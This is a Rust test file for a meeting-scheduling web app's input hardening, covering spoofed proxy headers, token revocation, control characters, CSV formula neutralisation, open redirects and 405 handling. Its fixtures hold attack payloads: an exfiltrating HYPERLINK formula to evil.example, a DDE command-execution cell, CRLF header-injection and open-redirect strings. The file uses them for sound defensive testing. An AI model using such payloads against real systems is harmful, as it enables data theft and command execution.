//! Issue #19, input hardening: the client address comes from the connection unless a configured
//! proxy sends it; a new password ends API tokens; control characters are refused naming the
//! field; CSV cells never start a formula; the language switch never fails; an undeclared
//! method answers 405 with Allow.

use crate::helpers::*;
use entity::Role;
use rocket::http::{ContentType, Header, Method, Status};
use serde_json::{json, Value};
use std::net::{IpAddr, SocketAddr};

fn fast_throttle() -> Vec<(&'static str, Value)> {
    vec![("throttle_delay_ms", json!(0))]
}

fn peer(ip: &str) -> SocketAddr {
    (ip.parse::<IpAddr>().unwrap(), 51000).into()
}

/// `POST /api/v1/tokens` from the connection `from`, with an `X-Real-IP` header if given.
async fn sign_in_api(
    app: &TestApp,
    username: &str,
    password: &str,
    from: &str,
    x_real_ip: Option<&str>,
) -> Status {
    let mut req = app
        .client
        .post("/api/v1/tokens")
        .header(ContentType::JSON)
        .remote(peer(from))
        .body(json!({"username": username, "password": password, "name": "t"}).to_string());
    if let Some(ip) = x_real_ip {
        req = req.header(Header::new("X-Real-IP", ip.to_string()));
    }
    req.dispatch().await.status()
}

/// Ten failures with different usernames from the connection 10.20.0.1 (lock_after is 10),
/// each with the `X-Real-IP` that `forged` gives; then the admin's right password from
/// `from` with `x_real_ip`: what it answers.
async fn after_ten_failures(
    forged: impl Fn(usize) -> Option<String>,
    from: &str,
    x_real_ip: Option<&str>,
) -> Status {
    let app = spawn_app_with(&fast_throttle()).await;
    for i in 0..10 {
        let (user, header) = (format!("user{i}"), forged(i));
        sign_in_api(&app, &user, "sai-mat-khau", "10.20.0.1", header.as_deref()).await;
    }
    sign_in_api(&app, "admin", ADMIN_PASSWORD, from, x_real_ip).await
}

/// The sign-in log as the admin reads it.
async fn auth_events(app: &TestApp, query: &str) -> Vec<Value> {
    let admin = app.principal("t.log.reader", Role::Admin, None).await;
    let path = format!("/api/v1/auth-events?{query}");
    let res = app.api(Method::Get, &path, Some(&admin.token), None).await;
    json_of(res, Status::Ok).await.as_array().unwrap().clone()
}

#[rocket::async_test]
async fn a_client_cannot_rotate_its_address_past_the_throttle_with_x_real_ip() {
    // The connection's address is what failed ten times: it is locked, whatever the header says.
    let rotated = |i| Some(format!("198.51.100.{i}"));
    let status = after_ten_failures(rotated, "10.20.0.1", Some("198.51.100.77")).await;
    assert_eq!(status, Status::TooManyRequests);
}

#[rocket::async_test]
async fn a_client_cannot_lock_out_another_address_with_x_real_ip() {
    let victim = |_| Some("10.21.0.2".to_string());
    let status = after_ten_failures(victim, "10.21.0.2", None).await;
    assert_eq!(
        status,
        Status::Created,
        "the victim's address is not locked"
    );
}

#[rocket::async_test]
async fn a_locked_address_cannot_escape_by_sending_x_real_ip() {
    let status = after_ten_failures(|_| None, "10.20.0.1", Some("203.0.113.9")).await;
    assert_eq!(status, Status::TooManyRequests);
}

#[rocket::async_test]
async fn the_sign_in_log_keeps_the_connections_address_not_a_forged_one() {
    let app = spawn_app().await;
    sign_in_api(
        &app,
        "admin",
        "sai-mat-khau-roi",
        "10.23.0.1",
        Some("6.6.6.6"),
    )
    .await;
    sign_in_api(&app, "admin", ADMIN_PASSWORD, "10.23.0.1", Some("6.6.6.6")).await;
    let events = auth_events(&app, "username=admin").await;
    let addresses: Vec<&str> = events
        .iter()
        .map(|e| e["client_ip"].as_str().unwrap_or(""))
        .collect();
    assert!(addresses.len() >= 2, "{events:?}");
    assert!(addresses.iter().all(|a| *a == "10.23.0.1"), "{addresses:?}");
}

#[rocket::async_test]
async fn the_header_is_believed_from_a_configured_proxy_only() {
    let app = spawn_app_with(&[
        ("throttle_delay_ms", json!(0)),
        ("client_ip_header", json!("X-Forwarded-For")),
        ("trusted_proxies", json!(["10.24.0.0/24", "10.25.0.1"])),
    ])
    .await;
    let forwarded = |from: &str, xff: &str| forwarded_as(&app, "admin", "sai", from, xff);
    // Through the proxies: the nearest hop that is not a proxy, not the first (forgeable) one.
    forwarded("10.24.0.5", "6.6.6.6, 203.0.113.50, 10.25.0.1")
        .dispatch()
        .await;
    // Straight from a client: the header is ignored.
    forwarded("192.0.2.10", "203.0.113.51").dispatch().await;
    let events = auth_events(&app, "username=admin").await;
    let mut addresses: Vec<&str> = events
        .iter()
        .map(|e| e["client_ip"].as_str().unwrap_or(""))
        .collect();
    addresses.sort();
    assert_eq!(addresses, ["192.0.2.10", "203.0.113.50"]);

    // Ten failures behind the proxy lock that client, not the proxy's other clients.
    for i in 0..10 {
        let xff = format!("203.0.113.60, 10.24.0.{i}");
        forwarded_as(&app, &format!("user{i}"), "sai", "10.24.0.5", &xff)
            .dispatch()
            .await;
    }
    let locked = forwarded_as(&app, "admin", ADMIN_PASSWORD, "10.24.0.5", "203.0.113.60");
    assert_eq!(locked.dispatch().await.status(), Status::TooManyRequests);
    let other = forwarded_as(&app, "admin", ADMIN_PASSWORD, "10.24.0.5", "203.0.113.61");
    assert_eq!(other.dispatch().await.status(), Status::Created);
}

/// A sign-in over the API through `from` with `X-Forwarded-For: xff`.
fn forwarded_as<'a>(
    app: &'a TestApp,
    username: &str,
    password: &str,
    from: &str,
    xff: &str,
) -> rocket::local::asynchronous::LocalRequest<'a> {
    app.client
        .post("/api/v1/tokens")
        .header(ContentType::JSON)
        .remote(peer(from))
        .header(Header::new("X-Forwarded-For", xff.to_string()))
        .body(json!({"username": username, "password": password, "name": "t"}).to_string())
}

// --- a new password revokes API tokens ---

async fn answers(app: &TestApp, token: &str) -> Status {
    app.api(Method::Get, "/api/v1/account", Some(token), None)
        .await
        .status()
}

#[rocket::async_test]
async fn changing_the_password_on_the_page_revokes_the_api_tokens() {
    let app = spawn_app().await;
    let staff = app.principal("t.staff.page", Role::OfficeStaff, None).await;
    let other = app
        .principal("t.staff.other", Role::OfficeStaff, None)
        .await;
    assert_eq!(answers(&app, &staff.token).await, Status::Ok);
    let mut b = Browser::new(&app);
    b.sign_in("t.staff.page", PRINCIPAL_PASSWORD).await;
    b.get("/tai-khoan/mat-khau").await;
    let changed = b
        .post(
            "/tai-khoan/mat-khau",
            &[
                ("current_password", PRINCIPAL_PASSWORD),
                ("new_password", "mot-mat-khau-moi-dai"),
                ("new_password_confirm", "mot-mat-khau-moi-dai"),
            ],
        )
        .await;
    assert_eq!(changed.status, Status::Ok, "{}", changed.body);
    assert_eq!(answers(&app, &staff.token).await, Status::Unauthorized);
    assert_eq!(answers(&app, &other.token).await, Status::Ok);
}

#[rocket::async_test]
async fn changing_the_password_over_the_api_revokes_the_api_tokens() {
    let app = spawn_app().await;
    let clerk = app.principal("t.clerk.api", Role::OfficeStaff, None).await;
    let (_, second) = lichhop::auth::tokens::issue(app.db(), clerk.account.id, "laptop")
        .await
        .unwrap();
    let res = app
        .api(
            Method::Post,
            "/api/v1/account/password",
            Some(&clerk.token),
            Some(&json!({"current_password": PRINCIPAL_PASSWORD, "new_password": "mot-mat-khau-moi-dai"})),
        )
        .await;
    assert_eq!(res.status(), Status::NoContent);
    assert_eq!(answers(&app, &clerk.token).await, Status::Unauthorized);
    assert_eq!(answers(&app, &second).await, Status::Unauthorized);
    // The new password gives a new token.
    let res = app
        .request_token("t.clerk.api", "mot-mat-khau-moi-dai", "10.30.0.1")
        .await;
    let token = json_of(res, Status::Created).await["token"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(answers(&app, &token).await, Status::Ok);
}

#[rocket::async_test]
async fn an_admin_reset_revokes_the_api_tokens() {
    let app = spawn_app().await;
    let admin = app.principal("t.admin.reset", Role::Admin, None).await;
    let staff = app
        .principal("t.staff.reset", Role::OfficeStaff, None)
        .await;
    let path = format!("/api/v1/accounts/{}/password", staff.account.id);
    let res = app
        .api(
            Method::Post,
            &path,
            Some(&admin.token),
            Some(&json!({"new_password": "mat-khau-dat-lai-dai"})),
        )
        .await;
    assert!(res.status().class().is_success(), "{}", res.status());
    assert_eq!(answers(&app, &staff.token).await, Status::Unauthorized);
    assert_eq!(answers(&app, &admin.token).await, Status::Ok);
}

// --- control characters ---

async fn count<E: sea_orm::EntityTrait>(app: &TestApp, _e: E) -> u64
where
    E::Model: Sync,
{
    sea_orm::PaginatorTrait::count(E::find(), &app.db().conn)
        .await
        .unwrap()
}

#[rocket::async_test]
async fn nul_in_sign_in_credentials_is_refused_naming_the_field_and_counts_as_a_failure() {
    let app = spawn_app().await;
    for (username, password, field) in [
        ("ad\u{0}min", ADMIN_PASSWORD, "username"),
        ("admin", "sai\u{0}", "password"),
        ("admin", "sai\u{1b}[2J", "password"),
    ] {
        let res = app.request_token(username, password, "10.31.0.1").await;
        let body = json_of(res, Status::UnprocessableEntity).await;
        assert_eq!(body["field"], field, "{body}");
    }
    let mut b = Browser::new(&app);
    let page = b.sign_in("ad\u{0}min", ADMIN_PASSWORD).await;
    assert_eq!(page.status, Status::UnprocessableEntity, "{}", page.body);
    assert!(
        page.body.contains("id=\"f-username-error\""),
        "{}",
        page.body
    );
    let page = b.sign_in("admin", "x\u{0}y").await;
    assert_eq!(page.status, Status::UnprocessableEntity, "{}", page.body);
    assert!(
        page.body.contains("id=\"f-password-error\""),
        "{}",
        page.body
    );

    let failures: Vec<Value> = auth_events(&app, "limit=1000")
        .await
        .into_iter()
        .filter(|e| e["kind"] == "failure")
        .collect();
    assert_eq!(failures.len(), 5, "{failures:?}");
    assert!(
        failures
            .iter()
            .any(|e| e["username"] == "ad\u{fffd}min" && e["detail"] == "username"),
        "{failures:?}"
    );
    // A refused attempt never signs in, even with the right password beside it.
    assert_eq!(
        count(&app, entity::api_token::Entity).await,
        1,
        "only the log reader's token"
    );
}

#[rocket::async_test]
async fn nul_in_a_meeting_title_is_refused_from_the_api_and_the_page() {
    let app = spawn_app().await;
    let o = app.office().await;
    let before = count(&app, entity::meeting::Entity).await;
    let body = json!({"title": "Họp\u{0}", "room_id": o.rooms[0], "chair_id": o.leaders[0],
        "starts_at": "2027-03-09T08:00", "ends_at": "2027-03-09T09:00"});
    let field = app
        .refused_field(
            Method::Post,
            "/api/v1/meetings",
            Some(&o.clerk_a.token),
            &body,
        )
        .await;
    assert_eq!(field, "title");
    let nested = json!({"title": "Họp", "room_id": o.rooms[0], "chair_id": o.leaders[0],
        "starts_at": "2027-03-09T08:00", "ends_at": "2027-03-09T09:00",
        "equipment": ["projector", "video_conference\u{7}"]});
    let res = app
        .api(
            Method::Post,
            "/api/v1/meetings",
            Some(&o.clerk_a.token),
            Some(&nested),
        )
        .await;
    let refused = json_of(res, Status::UnprocessableEntity).await;
    assert_eq!(refused["field"], "equipment[1]", "{refused}");

    let mut clerk = Browser::new(&app);
    clerk
        .sign_in(&o.clerk_a.account.username, PRINCIPAL_PASSWORD)
        .await;
    clerk.get("/dang-ky/moi").await;
    let room = o.rooms[0].to_string();
    let page = clerk
        .post(
            "/dang-ky",
            &[
                ("title", "Họp\u{0}giao ban"),
                ("day", "2027-03-09"),
                ("start", "08:00"),
                ("end", "09:00"),
                ("room_id", &room),
            ],
        )
        .await;
    assert_eq!(page.status, Status::UnprocessableEntity, "{}", page.body);
    assert!(page.body.contains("title"), "{}", page.body);
    assert_eq!(count(&app, entity::meeting::Entity).await, before);

    // Tabs and line ends are text, in a multi-line field.
    let body = json!({"title": "Họp giao ban", "agenda": "1. Báo cáo\r\n\t2. Thảo luận",
        "room_id": o.rooms[0], "chair_id": o.leaders[0],
        "starts_at": "2027-03-09T08:00", "ends_at": "2027-03-09T09:00"});
    let res = app
        .api(
            Method::Post,
            "/api/v1/meetings",
            Some(&o.clerk_a.token),
            Some(&body),
        )
        .await;
    assert_eq!(res.status(), Status::Created);
    assert_eq!(count(&app, entity::meeting::Entity).await, before + 1);
}

#[rocket::async_test]
async fn nul_in_admin_writes_is_refused_and_nothing_is_written() {
    let app = spawn_app().await;
    let admin = app.principal("t.admin.nul", Role::Admin, None).await;
    let (agencies, rooms) = (
        count(&app, entity::agency::Entity).await,
        count(&app, entity::room::Entity).await,
    );
    let field = app
        .refused_field(
            Method::Post,
            "/api/v1/agencies",
            Some(&admin.token),
            &json!({"name": "Sở\u{0}", "short_name": "S", "kind": "other"}),
        )
        .await;
    assert_eq!(field, "name");
    let field = app
        .refused_field(
            Method::Post,
            "/api/v1/rooms",
            Some(&admin.token),
            &json!({"name": "Phòng 1", "building": "A\u{0}", "capacity": 10}),
        )
        .await;
    assert_eq!(field, "building");

    let mut b = Browser::new(&app);
    b.sign_in("admin", ADMIN_PASSWORD).await;
    b.get("/quan-tri/don-vi/moi").await;
    let page = b
        .post(
            "/quan-tri/don-vi",
            &[
                ("name", "Sở\u{0}Nội vụ"),
                ("short_name", "SNV"),
                ("kind", "so_ban_nganh"),
            ],
        )
        .await;
    assert_eq!(page.status, Status::UnprocessableEntity, "{}", page.body);
    assert!(page.body.contains("name"), "{}", page.body);
    let page = b
        .post(
            "/quan-tri/phong-hop",
            &[
                ("name", "Phòng\u{0}"),
                ("building", "A"),
                ("capacity", "10"),
            ],
        )
        .await;
    assert_eq!(page.status, Status::UnprocessableEntity, "{}", page.body);
    assert_eq!(count(&app, entity::agency::Entity).await, agencies);
    assert_eq!(count(&app, entity::room::Entity).await, rooms);
}

// --- CSV ---

#[rocket::async_test]
async fn names_that_look_like_formulas_are_neutralised_in_the_csv() {
    let app = spawn_app().await;
    let o = app.office().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")"#;
    let res = app
        .api(
            Method::Post,
            "/api/v1/agencies",
            Some(&o.admin.token),
            Some(&json!({"name": evil, "short_name": "EVIL", "kind": "other"})),
        )
        .await;
    let agency = json_of(res, Status::Created).await["id"].as_i64().unwrap() as i32;
    let res = app
        .api(
            Method::Post,
            "/api/v1/rooms",
            Some(&o.admin.token),
            Some(&json!({"name": "@SUM(1+1)*cmd|' /C calc'!A0", "building": "A", "capacity": 30})),
        )
        .await;
    let room = json_of(res, Status::Created).await["id"].as_i64().unwrap();
    let clerk = app
        .principal("t.clerk.evil", Role::AgencyClerk, Some(agency))
        .await;
    app.approved(
        &o,
        &clerk,
        &json!({"title": "-1+2", "room_id": room, "chair_id": o.leaders[0],
            "starts_at": "2027-03-09T08:00", "ends_at": "2027-03-09T09:00", "submit": true}),
    )
    .await;
    let res = app
        .client
        .get("/api/v1/reports?from=2027-03-01&to=2027-03-31&format=csv")
        .header(Header::new(
            "Authorization",
            format!("Bearer {}", o.staff.token),
        ))
        .dispatch()
        .await;
    assert_eq!(res.status(), Status::Ok);
    let text = res.into_string().await.unwrap();
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")""#),
        "{text}"
    );
    assert!(text.contains("'@SUM(1+1)*cmd|' /C calc'!A0"), "{text}");
    // No cell starts a formula.
    for line in text.trim_start_matches('\u{feff}').split("\r\n") {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?} in {line:?}"
            );
        }
    }
}

// --- the language switch ---

#[rocket::async_test]
async fn the_language_switch_follows_only_same_site_paths_and_never_fails() {
    let app = spawn_app().await;
    for (next, expect) in [
        ("%2Flich-cong-tac", "/lich-cong-tac"),
        ("%2Fa%20b", "/a%20b"),
        (
            "%2Fl%E1%BB%8Bch%3Ftuan%3D2027-W09",
            "/l%E1%BB%8Bch?tuan=2027-W09",
        ),
        ("%2Fa%09b", "/dang-nhap"),
        ("%2Fa%0D%0ASet-Cookie:%20x=1", "/dang-nhap"),
        ("%2F%09%2Fevil.example", "/dang-nhap"),
        ("%2F%00", "/dang-nhap"),
        ("%2F%2Fevil.example", "/dang-nhap"),
        ("%2F%5Cevil.example", "/dang-nhap"),
        ("%5C%5Cevil.example", "/dang-nhap"),
        ("http%3A%2F%2Fevil.example", "/dang-nhap"),
        ("javascript:alert(1)", "/dang-nhap"),
        ("%2Fa%23frag%20x", "/dang-nhap"),
        // Bytes that are not UTF-8 arrive as U+FFFD, which is percent-encoded.
        ("%2F%FF%FE", "/%EF%BF%BD%EF%BF%BD"),
        ("", "/dang-nhap"),
        ("%E2%80%AE%2Fevil", "/dang-nhap"),
    ] {
        let res = app.get(&format!("/ngon-ngu/en?next={next}")).await;
        assert_eq!(res.status(), Status::SeeOther, "next={next}");
        let location = res.headers().get_one("Location").unwrap_or("").to_string();
        assert_eq!(location, expect, "next={next}");
    }
}

// --- undeclared methods ---

#[rocket::async_test]
async fn undeclared_methods_answer_405_with_allow_and_unknown_paths_404() {
    let app = spawn_app().await;
    let send = |method: Method, path: &str| app.client.req(method, path.to_string()).dispatch();
    let res = send(Method::Trace, "/api/v1/meetings").await;
    assert_eq!(res.status(), Status::MethodNotAllowed);
    let allow = res.headers().get_one("Allow").unwrap_or("").to_string();
    assert!(allow.contains("GET") && allow.contains("POST"), "{allow}");
    let body: Value = res.into_json().await.unwrap();
    assert_eq!(body["error"], "method_not_allowed");

    let res = send(Method::Delete, "/healthz").await;
    assert_eq!(res.status(), Status::MethodNotAllowed);
    assert_eq!(res.headers().get_one("Allow"), Some("GET, HEAD"));

    let res = send(Method::Put, "/api/v1/meetings/1").await;
    assert_eq!(res.status(), Status::MethodNotAllowed);
    let allow = res.headers().get_one("Allow").unwrap_or("").to_string();
    assert!(allow.contains("GET") && allow.contains("PATCH"), "{allow}");
    assert!(!allow.contains("PUT"), "{allow}");

    let res = send(Method::Patch, "/dang-nhap").await;
    assert_eq!(res.status(), Status::MethodNotAllowed);
    assert_eq!(res.headers().get_one("Allow"), Some("GET, HEAD, POST"));

    for (method, path) in [
        (Method::Get, "/no-such-path"),
        (Method::Trace, "/no-such-path"),
        (Method::Get, "/api/v1/no-such-thing"),
    ] {
        let res = send(method, path).await;
        assert_eq!(res.status(), Status::NotFound, "{method} {path}");
        assert!(res.headers().get_one("Allow").is_none());
    }
    // A declared method that finds nothing stays 404.
    let admin = app.principal("t.admin.405", Role::Admin, None).await;
    let res = app
        .api(
            Method::Get,
            "/api/v1/meetings/999999",
            Some(&admin.token),
            None,
        )
        .await;
    assert_eq!(res.status(), Status::NotFound);
}

#[rocket::async_test]
async fn nul_in_a_query_string_that_reaches_the_database_is_refused_naming_it() {
    let app = spawn_app().await;
    let admin = app.principal("t.admin.query", Role::Admin, None).await;
    for (path, field) in [
        ("/api/v1/auth-events?username=a%00b", "username"),
        (
            "/api/v1/availability?from=2027-03-01&duration_minutes=60&equipment=projector,a%00b",
            "equipment",
        ),
    ] {
        let res = app.api(Method::Get, path, Some(&admin.token), None).await;
        let body = json_of(res, Status::UnprocessableEntity).await;
        assert_eq!(body["field"], field, "{path}: {body}");
    }
    let mut b = Browser::new(&app);
    b.sign_in("admin", ADMIN_PASSWORD).await;
    let page = b.get("/quan-tri/nhat-ky-dang-nhap?username=a%00b").await;
    assert_eq!(page.status, Status::UnprocessableEntity);
    assert!(page.body.contains("<code>username</code>"), "{}", page.body);
}
